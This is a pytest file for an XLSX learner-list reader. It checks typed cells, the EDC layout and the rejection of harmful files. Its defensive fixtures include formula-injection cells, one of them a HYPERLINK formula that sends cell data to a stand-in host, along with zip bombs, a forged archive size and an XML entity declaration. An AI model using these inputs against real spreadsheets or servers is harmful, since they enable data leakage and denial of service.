"""XLSX: typed cells, formulas named by cell, the EDC layout, and files made to harm."""

import io
import struct
import zipfile
from datetime import date, datetime, time

import openpyxl
import pytest

from factories.class_lists import TODAY, raw_workbook, text_cell, workbook
from skillseal.credentials.recipients import Limits, open_list, read
from skillseal.domain.credential import Learner

HEADER = ("given_name", "family_name", "birth_date", "national_id", "grade:oral")


def codes(data: bytes, limits: Limits | None = None) -> list[str]:
    return [finding.code for finding in read(data, today=TODAY, limits=limits).findings]


def test_typed_cells() -> None:
    data = workbook(
        HEADER,
        ("Անի", "Պետրոսյան", date(1998, 5, 3), 1234567890, 5),
        (),
        ("Bo", None, datetime(1999, 1, 2), "0012", 4.5),  # noqa: DTZ001 - a workbook knows no zones
        ("Cy", "", "03.02.2000", None, "A+"),
    )
    found = read(data, today=TODAY)
    assert found.findings == ()
    assert [(row.line, row.learner, dict(row.grades)) for row in found.rows] == [
        (
            2,
            Learner(given_name="Անի", family_name="Պետրոսյան", birth_date=date(1998, 5, 3), national_id="1234567890"),
            {"oral": "5"},
        ),
        (4, Learner(given_name="Bo", birth_date=date(1999, 1, 2), national_id="0012"), {"oral": "4.5"}),
        (5, Learner(given_name="Cy", birth_date=date(2000, 2, 3)), {"oral": "A+"}),
    ]


@pytest.mark.parametrize(
    ("column", "value", "code"),
    [
        (1, "=B2", "list.formula_cell"),
        (0, '=HYPERLINK("http://x?"&A1)', "list.formula_cell"),
        (2, "=TODAY()", "list.formula_cell"),
        (2, 45291, "list.date_number"),
        (2, 45291.5, "list.date_number"),
        (2, "45291", "list.date_number"),
        (2, datetime(1998, 5, 3, 22, 0), "list.date_with_time"),  # noqa: DTZ001
        (2, time(12, 0), "list.date_unreadable"),
        (2, True, "list.date_unreadable"),
        (2, date(2030, 1, 1), "list.date_future"),
        (3, 10**17, "list.number_rounded"),
        (0, 12345, "list.name_without_letter"),
        (0, "-Ani", "list.name_formula"),
    ],
)
def test_a_wrong_cell_is_named(column: int, value: object, code: str) -> None:
    row: list[object] = ["Ani", "Petrosyan", date(1998, 5, 3), "1", "5"]
    row[column] = value
    found = read(workbook(HEADER, ("Bo", "Li", None, None, "5"), row), today=TODAY)
    assert found.rows == ()
    assert [
        (finding.code, finding.params["line"], finding.params["column"], finding.params["cell"])
        for finding in found.findings
    ] == [(code, 3, HEADER[column], f"{'ABCDE'[column]}3")]


def test_the_error_of_a_formula_is_named() -> None:
    cell = '<c r="A2" t="e"><v>#N/A</v></c>'
    assert codes(raw_workbook(f'<row r="1">{text_cell("A1", "name")}</row><row r="2">{cell}</row>')) == [
        "list.cell_error"
    ]


def test_hidden_sheets_are_not_read() -> None:
    data = workbook(("name",), ("Ani",), hidden=[("name",), ("Nobody",)])
    assert [row.learner.full_name for row in read(data, today=TODAY).rows] == ["Ani"]


def test_more_sheets_are_said() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(("name",), ("Ani",))))
    book.create_sheet("Other").append(["name"])
    stream = io.BytesIO()
    book.save(stream)
    found = read(stream.getvalue(), today=TODAY)
    assert [row.learner.full_name for row in found.rows] == ["Ani"]
    assert [finding.code for finding in found.findings] == ["list.more_sheets"]


def test_the_edc_workbook() -> None:
    data = workbook(
        (
            "{#c1}.REC.givenName",
            "{#c1}.REC.familyName",
            "{#c1}.REC.emailAddress",
            "{#c1}.REC.dateOfBirth",
            "{#c1}.REC.gender",
            "{#oral}.ASM.grade",
            "{#act}.ACT.include",
        ),
        ("field",) * 6 + ("relation",),
        ("Given name", "Family name", "E-mail", "Date of birth", "Gender", "Grade", "Workshop"),
        ("mandatory", "mandatory", "mandatory", "optional", "controlled list", "mandatory", "Y"),
        ("Անի", "Պետրոսյան", "ani@example.org", date(1998, 5, 3), "http://example.org/f", "5", "Y"),
        ("Bo", "Li", "bo@example.org", None, None, "4", None),
    )
    found = read(data, today=TODAY)
    assert found.findings == ()
    assert [(row.line, row.learner.display_name, row.learner.email, dict(row.grades)) for row in found.rows] == [
        (5, "Անի Պետրոսյան", "ani@example.org", {"oral": "5"}),
        (6, "Bo Li", "bo@example.org", {"oral": "4"}),
    ]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (workbook(), "list.empty"),
        (workbook(("name",)), "list.no_rows"),
        (workbook(("email",), ("ani@example.org",)), "list.no_name_column"),
        (b"PK\x03\x04" + b"x" * 100, "list.workbook_unreadable"),
        (workbook(("name",), ("Ani",))[:-200], "list.workbook_unreadable"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "list.other_format"),
        (b"%PDF-1.7\n", "list.other_format"),
        (raw_workbook("<row r='1'><c r='A1'>"), "list.workbook_unreadable"),
        (raw_workbook("", before='<!DOCTYPE x [<!ENTITY a "lol">]>'), "list.workbook_entities"),
        (raw_workbook("", extra={"xl/more.xml": "<!DOCTYPE x>".encode("utf-16")}), "list.workbook_entities"),
    ],
)
def test_what_is_no_list(data: bytes, code: str) -> None:
    found = read(data, today=TODAY)
    assert [finding.code for finding in found.findings] == [code]
    assert found.rows == ()


def test_a_zip_that_is_no_workbook() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    assert codes(stream.getvalue()) == ["list.other_format"]


def test_a_bomb_is_measured_before_it_is_opened() -> None:
    data = raw_workbook("", extra={"xl/sharedStrings.xml": b"<sst>" + b" " * 30_000_000 + b"</sst>"})
    assert len(data) < 100_000
    assert codes(data, Limits(inflated=20_000_000)) == ["list.workbook_too_large"]


def test_a_bomb_that_lies_about_its_size() -> None:
    name = b"xl/sharedStrings.xml"
    data = bytearray(raw_workbook("", extra={name.decode(): b" " * 30_000_000}))
    entry = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    struct.pack_into("<L", data, entry + 24, 100)  # the size in the central directory
    assert codes(bytes(data), Limits(inflated=20_000_000)) == ["list.workbook_packed"]
    assert codes(bytes(data), Limits(inflated=900_000)) == ["list.workbook_too_large"]
    data = bytearray(raw_workbook("", extra={name.decode(): b"<sst/>"}))
    struct.pack_into("<L", data, data.rindex(b"PK\x01\x02", 0, data.rindex(name)) + 24, 5)
    assert codes(bytes(data)) == ["list.workbook_unreadable"]


@pytest.mark.parametrize(
    ("cells", "code"),
    [
        (f'<row r="2">{text_cell("XFD2", "far right")}</row>', "list.too_many_columns"),
        (f'<row r="1048576">{text_cell("XFD1048576", "far away")}</row>', "list.too_many_columns"),
        (f'<row r="2">{text_cell("A2", "x" * 30_000)}</row>', "list.cell_too_long"),
    ],
)
def test_one_far_cell_does_not_fill_the_memory(cells: str, code: str) -> None:
    assert codes(raw_workbook(f'<row r="1">{text_cell("A1", "name")}</row>{cells}')) == [code]


def test_rows_beyond_the_limit() -> None:
    data = workbook(("name",), *[(f"Ani {chr(65 + n)}",) for n in range(11)])
    found = open_list(data, today=TODAY, limits=Limits(rows=10))
    assert [(finding.code, finding.params["line"]) for finding in found.findings] == [("list.too_many_rows", 12)]
    assert list(found.rows()) == []
